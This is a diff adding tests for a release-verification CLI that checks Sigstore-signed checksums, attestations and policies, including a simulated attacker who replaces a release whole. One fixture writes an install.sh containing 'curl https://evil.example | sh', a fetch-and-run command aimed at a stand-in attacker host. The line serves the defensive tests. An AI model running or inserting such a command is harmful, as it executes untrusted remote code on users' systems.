@@ -81,12 +81,45 @@ describe('trust-kit verify-release', () => {
     const policy = await writePolicy('policy.json');
     const run = await cli(['verify-release', 'release', '--policy', policy], root);
     assert.equal(run.code, EXIT.OK, run.stderr);
+    assert.equal(run.stderr, '', 'a policy and trusted root of the user\'s own, outside the release: no warning');
     assert.match(run.stdout, /signed checksums: SHA256SUMS, 2 file\(s\) match, signed by https:\/\/github\.com\/octo-org\/octo-repo\/\.github\/workflows\/release\.yml@refs\/tags\/v1\.0\.0/);
     assert.match(run.stdout, /attestation: +https:\/\/slsa\.dev\/provenance\/v1 for app\.tgz/);
     assert.match(run.stdout, /attestation: +https:\/\/spdx\.dev\/Document\/v2\.3 for app\.tgz/);
     const json = await cli(['verify-release', release, '--policy', policy, '--format', 'json'], root);
     assert.equal(json.code, EXIT.OK, json.stderr);
     assert.deepEqual((JSON.parse(json.stdout) as { attestations: { predicateType: string }[] }).attestations.map((entry) => entry.predicateType).sort(), [SLSA, SPDX]);
+  });
+
+  test('a file the signed checksums file does not list is named as not verified, never counted as verified', async () => {
+    const extra = await makeRelease('extra-asset');
+    await writeFile(join(extra, 'install.sh'), 'curl https://evil.example | sh\n');
+    const policy = await writePolicy('policy-extra.json');
+    const run = await cli(['verify-release', extra, '--policy', policy], root);
+    assert.equal(run.code, EXIT.OK, run.stderr);
+    assert.match(run.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: install\.sh\n/);
+    const json = await cli(['verify-release', extra, '--policy', policy, '--format', 'json'], root);
+    assert.deepEqual((JSON.parse(json.stdout) as { unlisted: string[] }).unlisted, ['install.sh']);
+    const clean = await cli(['verify-release', release, '--policy', policy, '--format', 'json'], root);
+    assert.deepEqual((JSON.parse(clean.stdout) as { unlisted: string[] }).unlisted, []);
+    // Listed as ./NAME (sha256sum ./*): verified, so not named.
+    const dotted = join(root, 'dotted');
+    await mkdir(dotted);
+    for (const [file, text] of Object.entries(files)) await writeFile(join(dotted, file), text);
+    await writeFile(join(dotted, 'SHA256SUMS'), Object.entries(files).map(([file, text]) => `${sha256(text)}  ./${file}\n`).join(''));
+    await signFile(join(dotted, 'SHA256SUMS'));
+    const dottedRun = await cli(['verify-release', dotted, '--policy', await writePolicy('policy-dotted.json', { requiredPredicateTypes: [] }), '--format', 'json'], root);
+    assert.equal(dottedRun.code, EXIT.OK, dottedRun.stderr);
+    const dottedResult = JSON.parse(dottedRun.stdout) as { checksums: { verifiedFiles: number }; unlisted: string[] };
+    assert.deepEqual([dottedResult.checksums.verifiedFiles, dottedResult.unlisted], [2, []]);
+  });
+
+  test('signed checksums with none of the files they list is VERIFY_RELEASE_INCOMPLETE, as verify-checksums refuses to check nothing', async () => {
+    const bare = await makeRelease('bare', { attest: [] });
+    for (const file of Object.keys(files)) await rm(join(bare, file));
+    const policy = await writePolicy('policy-bare.json', { requiredPredicateTypes: [] });
+    const run = await cli(['verify-release', bare, '--policy', policy], root);
+    assert.equal(run.code, EXIT.VERIFICATION_FAILED, run.stderr);
+    assert.match(run.stderr, /VERIFY_RELEASE_INCOMPLETE: .*none of the 2 files SHA256SUMS lists/);
   });
 
   test('a changed file fails (exit 3), as does a release lacking a required attestation type', async () => {
@@ -127,6 +160,42 @@ describe('trust-kit verify-release', () => {
       assert.equal(run.code, EXIT.VERIFICATION_FAILED, run.stderr);
     } finally {
       await otherStack.close();
+    }
+  });
+
+  test('a release whose files, policy and trusted root were all replaced does not verify under the user\'s pins and trusted root', async () => {
+    // The attacker's own Sigstore stack: its CA certifies whatever workflow and repository its tokens claim.
+    const attacker = await startSigstoreStack();
+    try {
+      const dir = join(root, 'replaced');
+      await mkdir(dir);
+      for (const [file, text] of Object.entries(files)) await writeFile(join(dir, file), `${text}with a backdoor\n`);
+      await writeFile(join(dir, 'SHA256SUMS'), Object.entries(files).map(([file, text]) => `${sha256(`${text}with a backdoor\n`)}  ${file}\n`).join(''));
+      const raw: Record<string, string> = { 'subject-path': 'unused', instance: 'public-good', 'fulcio-url': attacker.fulcioURL, 'trusted-root': attacker.trustedRootPath, 'rekor-url': attacker.rekorURL ?? '' };
+      if (attacker.tsaURL !== undefined) raw['tsa-url'] = attacker.tsaURL;
+      const opened = await openSigningSession(signConfig(raw, cliNamer()), { cwd: root, env: { SIGSTORE_ID_TOKEN: attacker.oidc.mintToken(TAG_CLAIMS) }, run: { serverURL: 'https://github.com', payload: undefined, visibility: undefined }, logger: silentLogger });
+      assert.ok(opened.session);
+      try {
+        await opened.session.signFile(join(dir, 'SHA256SUMS'), join(dir, 'SHA256SUMS.sigstore.json'));
+      } finally {
+        await opened.close();
+      }
+      await copyFile(attacker.trustedRootPath, join(dir, 'trust-kit-trusted-root.jsonl'));
+      await writeFile(join(dir, 'trust-kit-policy.json'), releasePolicyJson({ trustedRoots: ['trust-kit-trusted-root.jsonl'], identity, issuer: ISSUER, repository: 'octo-org/octo-repo', refPattern: 'refs/tags/.*', requiredPredicateTypes: [], githubTrustedRoot: undefined }));
+      const pins = ['--expect-repo', 'octo-org/octo-repo', '--signer-workflow', 'octo-org/octo-repo/.github/workflows/release.yml'];
+      // With the roots it carries, the replaced release meets every pin: they are not used.
+      const run = await cli(['verify-release', dir, ...pins, '--trusted-root', 'trusted_root.json'], root);
+      assert.equal(run.code, EXIT.VERIFICATION_FAILED, run.stderr);
+      assert.match(run.stderr, /VERIFY_CERTIFICATE_UNTRUSTED/);
+      // Given as --policy, the release's own policy is used as the user says, and its roots with it: they are told what that proves.
+      const shippedAsPolicy = await cli(['verify-release', dir, '--policy', join(dir, 'trust-kit-policy.json')], root);
+      assert.equal(shippedAsPolicy.code, EXIT.OK, shippedAsPolicy.stderr);
+      assert.match(shippedAsPolicy.stderr, /warning: the trusted root trust-kit-trusted-root\.jsonl came with the release: a release replaced whole verifies with them; pass --trusted-root/);
+      const ownRoot = await cli(['verify-release', dir, '--policy', join(dir, 'trust-kit-policy.json'), '--trusted-root', 'trusted_root.json'], root);
+      assert.equal(ownRoot.code, EXIT.VERIFICATION_FAILED, ownRoot.stderr);
+      assert.doesNotMatch(ownRoot.stderr, /warning/);
+    } finally {
+      await attacker.close();
     }
   });
 
@@ -203,10 +272,30 @@ describe('trust-kit verify-release', () => {
     assert.match(purl.stderr, /the purl is "pkg:github\/octo-org\/octo-repo@v0\.9\.0"/);
   });
 
+  test('GitHub\'s release attestation of another predicate type is refused, and a v0.1 one when --commit asks for what only v0.2 names', async () => {
+    const all = { ...files, SHA256SUMS: sums(), 'SHA256SUMS.sigstore.json': 'x' };
+    await copyFile(github.trustedRootPath, join(root, 'github_trusted_root.json'));
+    const policy = await writePolicy('policy-release-types.json', { githubTrustedRoot: 'github_trusted_root.json', requireGitHubReleaseAttestation: true });
+    // v0.1 names the tag alone: the commit asked for cannot be shown, so it is not taken as shown.
+    const v01 = await makeRelease('immutable-v01-commit');
+    await releaseAttestation(v01, all, 'v1.0.0');
+    assert.equal((await cli(['verify-release', v01, '--policy', policy, '--tag', 'v1.0.0'], root)).code, EXIT.OK);
+    const commit = await cli(['verify-release', v01, '--policy', policy, '--tag', 'v1.0.0', '--commit', 'c'.repeat(40)], root);
+    assert.equal(commit.code, EXIT.POLICY_MISMATCH, commit.stderr);
+    assert.match(commit.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: GitHub's release attestation is a https:\/\/in-toto\.io\/attestation\/release\/v0\.1 statement, which names no commit/);
+    // Any other statement by GitHub's releases signer would have been checked as v0.1, by its tag alone.
+    const other = await makeRelease('immutable-other-type');
+    const statement = { _type: 'https://in-toto.io/Statement/v1', subject: Object.entries(all).map(([name, text]) => ({ name, digest: { sha256: sha256(text) } })), predicateType: 'https://in-toto.io/attestation/release/v0.3', predicate: { tag: 'v1.0.0' } };
+    await writeFile(join(other, 'release-attestation.sigstore.json'), JSON.stringify(await github.sign(statement)));
+    const refused = await cli(['verify-release', other, '--policy', policy, '--tag', 'v1.0.0'], root);
+    assert.equal(refused.code, EXIT.PREDICATE_TYPE_MISMATCH, refused.stderr);
+    assert.match(refused.stderr, /VERIFY_PREDICATE_TYPE_MISMATCH: GitHub's release attestation has the predicate type "https:\/\/in-toto\.io\/attestation\/release\/v0\.3"/);
+  });
+
   test('a policy with a bad field is RELEASE_POLICY_INVALID naming the field', () => {
     const valid = { version: 1, trustedRoots: ['r.json'], certificateIdentity: 'https://x', issuer: ISSUER };
     assert.doesNotThrow(() => parseReleasePolicy(JSON.stringify(valid), 'p.json', '/'));
-    for (const [change, field] of [[{ version: 2 }, 'version'], [{ trustedRoots: [] }, 'trustedRoots'], [{ certificateIdentityRegExp: 'x' }, 'certificateIdentity'], [{ issuer: 7 }, 'issuer'], [{ sourceRepository: 'no-slash' }, 'sourceRepository'], [{ refPattern: '(' }, 'refPattern'], [{ requiredPredicateTypes: 'x' }, 'requiredPredicateTypes']] as const) {
+    for (const [change, field] of [[{ version: 2 }, 'version'], [{ trustedRoots: [] }, 'trustedRoots'], [{ certificateIdentityRegExp: 'x' }, 'certificateIdentity'], [{ issuer: 7 }, 'issuer'], [{ sourceRepository: 'no-slash' }, 'sourceRepository'], [{ refPattern: '(' }, 'refPattern'], [{ refPattern: 'refs/tags/v.*)|(.*' }, 'refPattern'], [{ requiredPredicateTypes: 'x' }, 'requiredPredicateTypes']] as const) {
       assert.throws(() => parseReleasePolicy(JSON.stringify({ ...valid, ...change }), 'p.json', '/'), (error: Error & { code?: string }) => error.code === 'RELEASE_POLICY_INVALID' && error.message.includes(field), field);
     }
     assert.throws(() => parseReleasePolicy('not json', 'p.json', '/'), { code: 'RELEASE_POLICY_INVALID' });
